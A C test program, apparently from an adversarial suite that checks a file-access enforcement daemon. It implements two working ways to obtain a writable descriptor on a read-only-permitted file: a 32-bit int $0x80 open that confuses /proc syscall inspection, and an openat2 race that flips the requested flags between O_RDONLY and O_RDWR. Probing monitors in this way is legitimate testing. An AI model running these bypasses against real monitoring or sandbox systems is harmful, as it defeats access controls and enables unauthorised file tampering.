/*
 * open_flags: attack 5, spoofing the flags of an open. TARGET is a file
 * the attacker may read but not write; each mode succeeds if it got a
 * descriptor open for writing on it and a write landed.
 *
 *   open_flags int80 FIFO TARGET
 *     One thread blocks in open(FIFO, O_RDONLY) (no writer comes), while
 *     the main thread opens TARGET O_RDWR through the 32-bit system call
 *     (int $0x80, call 5, open), whose number means something else to a
 *     64-bit reader of /proc/PID/task/TID/syscall: the only open call
 *     left to see is the reader's, asking for O_RDONLY.
 *
 *   open_flags openat2 TARGET [TRIES] [SECONDS]
 *     openat2 with a struct open_how whose flags another thread flips
 *     between O_RDONLY and O_RDWR: the kernel copies the struct once, and
 *     a daemon that reads it again from the opener's memory may see the
 *     other value. At most TRIES (2000) opens or SECONDS (10).
 */
#include "adversarial.h" /* first: it defines _GNU_SOURCE */

#include <linux/openat2.h>
#include <pthread.h>
#include <stdatomic.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/syscall.h>

static const char MARK[] = "written by the attacker\n";

/* Writes MARK at the start of `fd` and reads it back. */
static int wrote(int fd) {
    char back[sizeof MARK];
    if (pwrite(fd, MARK, sizeof MARK - 1, 0) != (ssize_t)(sizeof MARK - 1)) return 0;
    if (pread(fd, back, sizeof MARK - 1, 0) != (ssize_t)(sizeof MARK - 1)) return 0;
    return memcmp(back, MARK, sizeof MARK - 1) == 0;
}

static const char *fifo_path;
static atomic_int reader_tid;

static void *fifo_reader(void *arg) {
    (void)arg;
    atomic_store(&reader_tid, (int)gettid());
    open(fifo_path, O_RDONLY); /* blocks: nobody opens it for writing */
    return NULL;
}

/* Whether thread `tid` of this process is blocked in openat. */
static int blocked_in_openat(int tid) {
    char path[64], line[256];
    snprintf(path, sizeof path, "/proc/self/task/%d/syscall", tid);
    if (read_line(path, line, sizeof line) != 0) return 0;
    return atoi(line) == SYS_openat;
}

static int int80(const char *fifo, const char *target) {
    fifo_path = fifo;
    pthread_t t;
    if (pthread_create(&t, NULL, fifo_reader, NULL) != 0) verdict(BROKEN, "pthread_create failed");
    double end = now_s() + 5;
    while (!(atomic_load(&reader_tid) && blocked_in_openat(atomic_load(&reader_tid)))) {
        if (now_s() > end) verdict(BROKEN, "the reader did not block in open(%s)", fifo);
        usleep(1000);
    }
    /* The 32-bit entry takes 32-bit pointers: the path below 4 GiB. */
    char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (low == MAP_FAILED) verdict(BROKEN, "mmap(MAP_32BIT): %s", strerror(errno));
    if (strlen(target) >= 4096) verdict(BROKEN, "path too long");
    strcpy(low, target);
    long ret;
    __asm__ volatile("int $0x80" : "=a"(ret) : "a"(5L), "b"(low), "c"((long)O_RDWR), "d"(0L) : "memory");
    if (ret == -ENOSYS) verdict(UNSUPPORTED, "no 32-bit system calls (int $0x80) on this kernel");
    if (ret < 0) FAILED((int)-ret, "32-bit open(%s, O_RDWR) while a thread waits in open(%s, O_RDONLY)", target, fifo);
    if (!wrote((int)ret)) FAILED(errno, "write to %s opened O_RDWR by the 32-bit open", target);
    verdict(SUCCEEDED, "the 32-bit open(%s, O_RDWR) got a writable descriptor and the write landed", target);
}

static struct open_how how;
static atomic_int flipping = 1;

static void *flipper(void *arg) {
    (void)arg;
    /* Mostly asleep (so a reader of our /proc files need not wait for us
     * to stop running), flipping between sleeps. */
    prctl(PR_SET_TIMERSLACK, 1UL, 0, 0, 0);
    struct timespec ts = {0, 20000};
    for (unsigned i = 0; atomic_load_explicit(&flipping, memory_order_relaxed); i++) {
        __atomic_store_n(&how.flags, (i & 1) ? (unsigned long long)O_RDWR : (unsigned long long)O_RDONLY,
                         __ATOMIC_RELAXED);
        nanosleep(&ts, NULL);
    }
    return NULL;
}

static int openat2_race(const char *target, long tries, double seconds) {
    memset(&how, 0, sizeof how);
    how.flags = O_RDONLY;
    long probe = syscall(SYS_openat2, AT_FDCWD, "/", &how, sizeof how);
    if (probe < 0 && errno == ENOSYS) verdict(UNSUPPORTED, "no openat2 on this kernel");
    if (probe >= 0) close((int)probe);
    pthread_t t;
    if (pthread_create(&t, NULL, flipper, NULL) != 0) verdict(BROKEN, "pthread_create failed");
    double end = now_s() + seconds;
    long n = 0, denied = 0, readonly = 0, other = 0;
    int other_err = 0;
    /* At least `tries` calls; then on until one was denied (the race
     * asked for O_RDWR under an enforcing daemon) or the time is up: on a
     * loaded machine the flipper may not run during the first calls. */
    for (; (n < tries || !denied) && now_s() < end; n++) {
        long fd = syscall(SYS_openat2, AT_FDCWD, target, &how, sizeof how);
        if (fd < 0) {
            if (is_denial(errno)) {
                denied++;
            } else {
                other++;
                other_err = errno;
            }
            continue;
        }
        int mode = fcntl((int)fd, F_GETFL) & O_ACCMODE;
        if (mode == O_RDWR && wrote((int)fd)) {
            atomic_store(&flipping, 0);
            verdict(SUCCEEDED, "openat2 try %ld of %s got a writable descriptor and the write landed", n + 1, target);
        }
        readonly++;
        close((int)fd);
    }
    atomic_store(&flipping, 0);
    pthread_join(t, NULL);
    if (other) verdict(BROKEN, "%ld openat2 calls: %ld failed with %s", n, other, strerror(other_err));
    if (!denied) verdict(BROKEN, "%ld openat2 calls, all read-only: the race never asked for O_RDWR", n);
    verdict(BLOCKED, "%ld openat2 calls of %s: %ld denied, %ld read-only, none writable", n, target, denied, readonly);
}

int main(int argc, char **argv) {
    if (argc == 4 && strcmp(argv[1], "int80") == 0) return int80(argv[2], argv[3]);
    if (argc >= 3 && strcmp(argv[1], "openat2") == 0)
        return openat2_race(argv[2], argc > 3 ? atol(argv[3]) : 2000, argc > 4 ? atof(argv[4]) : 10.0);
    verdict(BROKEN, "usage: open_flags int80 FIFO TARGET | open_flags openat2 TARGET [TRIES] [SECONDS]");
}
